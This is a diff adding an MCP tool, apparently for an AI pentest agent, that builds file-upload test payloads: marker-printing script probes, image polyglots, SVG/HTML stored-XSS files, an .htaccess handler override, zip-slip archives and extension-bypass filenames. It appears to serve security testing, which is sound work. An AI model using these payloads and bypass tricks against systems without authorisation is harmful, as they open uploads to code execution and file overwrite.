@@ -0,0 +1,283 @@
+/**
+ * upload_payload MCP Tool
+ *
+ * Crafts benign file-upload test files locally: server-side script probes,
+ * image/script polyglots (valid GIF/PNG carrying a probe), SVG/HTML stored-XSS
+ * files, .htaccess handler overrides and zip-slip archives.
+ * Every file carries a unique marker, and script probes print the marker
+ * followed by a computed value (7*191 = 1337), so that execution can be told
+ * apart from plain reflection of the uploaded bytes.
+ */
+
+import { tool } from '@anthropic-ai/claude-agent-sdk';
+import { z } from 'zod';
+import { createHash, randomBytes } from 'crypto';
+import { deflateSync } from 'zlib';
+import { mkdirSync, writeFileSync } from 'fs';
+import path from 'path';
+import { createToolResult } from '../types/tool-responses.js';
+import { createValidationError, createGenericError } from '../utils/error-formatter.js';
+import { getTargetDir } from '../../../src/utils/context.js';
+import { crc32, createZip } from '../../../src/utils/zip.js';
+
+const PAYLOAD_DIR = 'deliverables/findings/upload-payloads';
+const EXECUTION_SUFFIX = '1337';
+
+// Benign probes: print marker + 7*191; nothing else is executed
+const SCRIPT_PROBES = Object.freeze({
+  php: { ext: 'php', alt: ['pHp', 'php5', 'php7', 'phtml', 'phar', 'pht'], mime: 'application/x-php', code: m => `<?php echo '${m}'.(7*191); ?>` },
+  jsp: { ext: 'jsp', alt: ['JSP', 'jspx', 'jspf'], mime: 'text/plain', code: m => `<%= "${m}" + (7*191) %>` },
+  aspx: { ext: 'aspx', alt: ['asPx', 'ashx', 'asmx'], mime: 'text/plain', code: m => `<%@ Page Language="C#" %><%= "${m}" + (7*191) %>` },
+  asp: { ext: 'asp', alt: ['cer', 'asa'], mime: 'text/plain', code: m => `<%= "${m}" & (7*191) %>` },
+});
+
+export const UploadPayloadInputSchema = z.object({
+  kind: z
+    .enum(['script_probe', 'gif_polyglot', 'png_polyglot', 'svg_xss', 'html_xss', 'htaccess', 'zip_slip'])
+    .describe('script_probe: server-side probe; gif/png_polyglot: valid image carrying the probe; svg/html_xss: stored XSS file; htaccess: handler override; zip_slip: archive with a traversal entry'),
+  language: z
+    .enum(['php', 'jsp', 'aspx', 'asp'])
+    .default('php')
+    .describe('Server-side language for script_probe and polyglots (htaccess: php only)'),
+  marker: z
+    .string()
+    .regex(/^[A-Za-z0-9_]{6,40}$/)
+    .optional()
+    .describe('Unique marker embedded in the file (default: DOKODEMO_UPLOAD_<random>)'),
+  zip_entry_path: z
+    .string()
+    .max(200)
+    .optional()
+    .describe('Traversal entry name for zip_slip (default: ../../../../tmp/<marker>.txt)'),
+  htaccess_extension: z
+    .string()
+    .regex(/^[a-z0-9]{2,10}$/)
+    .default('dkd')
+    .describe('Extension mapped to the script handler by the htaccess file'),
+});
+
+/**
+ * [목적] 1x1 GIF89a 생성 (comment extension에 코드 삽입).
+ */
+function buildGif(comment) {
+  const data = Buffer.from(comment, 'utf8');
+  const blocks = [];
+  for (let i = 0; i < data.length; i += 255) {
+    const part = data.subarray(i, i + 255);
+    blocks.push(Buffer.from([part.length]), part);
+  }
+  return Buffer.concat([
+    Buffer.from('GIF89a', 'ascii'),
+    Buffer.from([0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00]), // 1x1, 2-color global table
+    Buffer.from([0x00, 0x00, 0x00, 0xFF, 0xFF, 0xFF]),
+    Buffer.from([0x21, 0xFE]), ...blocks, Buffer.from([0x00]), // comment extension
+    Buffer.from([0x2C, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]),
+    Buffer.from([0x02, 0x02, 0x44, 0x01, 0x00]), // LZW image data
+    Buffer.from([0x3B]),
+  ]);
+}
+
+/**
+ * [목적] 1x1 PNG 생성 (tEXt 청크에 코드 삽입).
+ */
+function buildPng(comment) {
+  const chunk = (type, body) => {
+    const length = Buffer.alloc(4);
+    length.writeUInt32BE(body.length, 0);
+    const typed = Buffer.concat([Buffer.from(type, 'ascii'), body]);
+    const crc = Buffer.alloc(4);
+    crc.writeUInt32BE(crc32(typed), 0);
+    return Buffer.concat([length, typed, crc]);
+  };
+  const ihdr = Buffer.alloc(13);
+  ihdr.writeUInt32BE(1, 0);
+  ihdr.writeUInt32BE(1, 4);
+  ihdr[8] = 8; // bit depth
+  ihdr[9] = 0; // grayscale
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]),
+    chunk('IHDR', ihdr),
+    chunk('tEXt', Buffer.concat([Buffer.from('Comment\0', 'latin1'), Buffer.from(comment, 'utf8')])),
+    chunk('IDAT', deflateSync(Buffer.from([0x00, 0xFF]))),
+    chunk('IEND', Buffer.alloc(0)),
+  ]);
+}
+
+/**
+ * [목적] 확장자/경로 우회용 업로드 파일명 후보 생성.
+ */
+function filenameVariants(base, ext, alt = [], safeExt = 'png') {
+  return [
+    `${base}.${ext}`,
+    ...alt.map(a => `${base}.${a}`),
+    `${base}.${ext}.${safeExt}`,
+    `${base}.${safeExt}.${ext}`,
+    `${base}.${ext}%00.${safeExt}`,
+    `${base}.${ext};.${safeExt}`,
+    `${base}.${ext}.`,
+    `${base}.${ext}::$DATA`,
+    `../${base}.${ext}`,
+    `..%2f${base}.${ext}`,
+    `....//${base}.${ext}`,
+  ];
+}
+
+/**
+ * [목적] kind별 파일 내용/이름/증거 기준 생성.
+ */
+function buildPayload(kind, language, marker, options) {
+  const probe = SCRIPT_PROBES[language];
+  const expectedExecution = `${marker}${EXECUTION_SUFFIX}`;
+
+  switch (kind) {
+    case 'script_probe':
+      return {
+        fileName: `${marker}.${probe.ext}`,
+        content: Buffer.from(probe.code(marker), 'utf8'),
+        contentTypes: [probe.mime, 'image/png', 'image/gif', 'application/octet-stream'],
+        filenameVariants: filenameVariants(marker, probe.ext, probe.alt),
+        proof: { execution: expectedExecution, reflection_only: probe.code(marker) },
+      };
+    case 'gif_polyglot':
+      return {
+        fileName: `${marker}.gif`,
+        content: buildGif(probe.code(marker)),
+        contentTypes: ['image/gif'],
+        filenameVariants: [`${marker}.gif`, ...filenameVariants(marker, probe.ext, probe.alt, 'gif')],
+        proof: { execution: expectedExecution, note: 'Valid GIF89a; probe code sits in the comment extension' },
+      };
+    case 'png_polyglot':
+      return {
+        fileName: `${marker}.png`,
+        content: buildPng(probe.code(marker)),
+        contentTypes: ['image/png'],
+        filenameVariants: [`${marker}.png`, ...filenameVariants(marker, probe.ext, probe.alt, 'png')],
+        proof: { execution: expectedExecution, note: 'Valid PNG; probe code sits in a tEXt chunk (survives naive magic-byte checks, not re-encoding)' },
+      };
+    case 'svg_xss':
+      return {
+        fileName: `${marker}.svg`,
+        content: Buffer.from([
+          '<?xml version="1.0" encoding="UTF-8"?>',
+          `<svg xmlns="http://www.w3.org/2000/svg" width="240" height="30" onload="document.title='${marker}'">`,
+          `  <text x="0" y="20">${marker}</text>`,
+          `  <script type="text/javascript">window.${marker} = true; console.log('${marker}');</script>`,
+          '</svg>',
+          '',
+        ].join('\n'), 'utf8'),
+        contentTypes: ['image/svg+xml', 'image/png', 'text/xml'],
+        filenameVariants: [`${marker}.svg`, `${marker}.SVG`, `${marker}.svgz`, `${marker}.xml`, `${marker}.svg.png`],
+        proof: { render: `document.title === '${marker}' or window.${marker} === true when the served file is opened in the browser` },
+      };
+    case 'html_xss':
+      return {
+        fileName: `${marker}.html`,
+        content: Buffer.from(`<!DOCTYPE html><html><head><title>upload</title></head><body><p>${marker}</p><script>document.title='${marker}';window.${marker}=true;</script></body></html>\n`, 'utf8'),
+        contentTypes: ['text/html', 'image/png', 'text/plain'],
+        filenameVariants: [`${marker}.html`, `${marker}.htm`, `${marker}.xhtml`, `${marker}.shtml`, `${marker}.html.png`],
+        proof: { render: `document.title === '${marker}' when the served file is opened in the browser (check Content-Type and Content-Disposition of the response)` },
+      };
+    case 'htaccess':
+      return {
+        fileName: '.htaccess',
+        content: Buffer.from(`# ${marker}\nAddType application/x-httpd-php .${options.htaccessExtension}\n`, 'utf8'),
+        contentTypes: ['text/plain', 'application/octet-stream'],
+        filenameVariants: ['.htaccess', '.user.ini'],
+        proof: {
+          follow_up: `Upload a script_probe named ${marker}.${options.htaccessExtension} next; execution output ${expectedExecution} proves the override.`,
+          note: 'Apache + PHP only (AllowOverride must permit it). For PHP-FPM try .user.ini with auto_prepend_file instead.',
+        },
+      };
+    case 'zip_slip': {
+      const entryPath = options.zipEntryPath || `../../../../tmp/${marker}.txt`;
+      return {
+        fileName: `${marker}.zip`,
+        content: createZip([
+          { name: `${marker}-readme.txt`, data: `${marker} benign entry\n` },
+          { name: entryPath, data: `${marker} zip-slip entry\n` },
+        ]),
+        contentTypes: ['application/zip', 'application/x-zip-compressed', 'application/octet-stream'],
+        filenameVariants: [`${marker}.zip`, `${marker}.jar`, `${marker}.docx`],
+        proof: { traversal_entry: entryPath, check: `Look for ${marker}.txt outside the extraction directory (retrievable URL, listing, or error that reveals the resolved path)` },
+      };
+    }
+    default:
+      return null;
+  }
+}
+
+/**
+ * [목적] 업로드 테스트 파일을 로컬에 생성.
+ *
+ * [호출자]
+ * - MCP tool 호출 (upload_payload) — upload-exploit 에이전트
+ *
+ * [출력 대상]
+ * - deliverables/findings/upload-payloads/<marker>/<file> 저장 + ToolResult 반환
+ *
+ * [입력 파라미터]
+ * - args.kind, args.language, args.marker, args.zip_entry_path, args.htaccess_extension
+ *
+ * [반환값]
+ * - Promise<object>: 파일 경로, 크기, sha256, Content-Type/파일명 후보, 증거 판정 기준(proof)
+ *
+ * [주의사항]
+ * - 프로브는 마커와 7*191 결과만 출력 (명령 실행/파일 접근 없음)
+ * - 네트워크 전송은 하지 않음. 업로드는 curl -F 또는 Playwright로 수행
+ */
+export async function uploadPayload(args) {
+  try {
+    const {
+      kind,
+      language = 'php',
+      marker = `DOKODEMO_UPLOAD_${randomBytes(4).toString('hex')}`,
+      zip_entry_path: zipEntryPath,
+      htaccess_extension: htaccessExtension = 'dkd',
+    } = args;
+
+    // AddType only maps an extension onto Apache's PHP handler; other languages have no equivalent override here
+    if (kind === 'htaccess' && language !== 'php') {
+      return createToolResult(createValidationError(
+        `htaccess payload only supports language 'php' (received '${language}'); for ${language} use script_probe filename variants instead`,
+        false
+      ));
+    }
+
+    const payload = buildPayload(kind, language, marker, { zipEntryPath, htaccessExtension });
+    if (!payload) {
+      return createToolResult(createValidationError(`Unsupported kind: ${kind}`, false));
+    }
+
+    const targetDir = getTargetDir();
+    const savedPath = path.join(targetDir, PAYLOAD_DIR, marker, payload.fileName);
+    mkdirSync(path.dirname(savedPath), { recursive: true });
+    writeFileSync(savedPath, payload.content);
+
+    const relativePath = path.relative(targetDir, savedPath);
+    return createToolResult({
+      status: 'success',
+      message: `Created ${kind} test file (${payload.content.length} bytes)`,
+      kind,
+      marker,
+      saved_path: relativePath,
+      size: payload.content.length,
+      sha256: createHash('sha256').update(payload.content).digest('hex'),
+      content_type_candidates: payload.contentTypes,
+      filename_variants: payload.filenameVariants,
+      proof: payload.proof,
+      curl_example: `curl -s -F "file=@${relativePath};filename=${payload.filenameVariants[0]};type=${payload.contentTypes[0]}" <UPLOAD_URL>`,
+    });
+  } catch (error) {
+    return createToolResult(createGenericError(error, false));
+  }
+}
+
+/**
+ * Tool definition for MCP server - created using SDK's tool() function
+ */
+export const uploadPayloadTool = tool(
+  'upload_payload',
+  'Creates benign file-upload test files locally (script probes, GIF/PNG polyglots, SVG/HTML stored-XSS files, .htaccess overrides, zip-slip archives) with a unique marker, filename/Content-Type bypass variants and the expected proof string.',
+  UploadPayloadInputSchema.shape,
+  uploadPayload
+);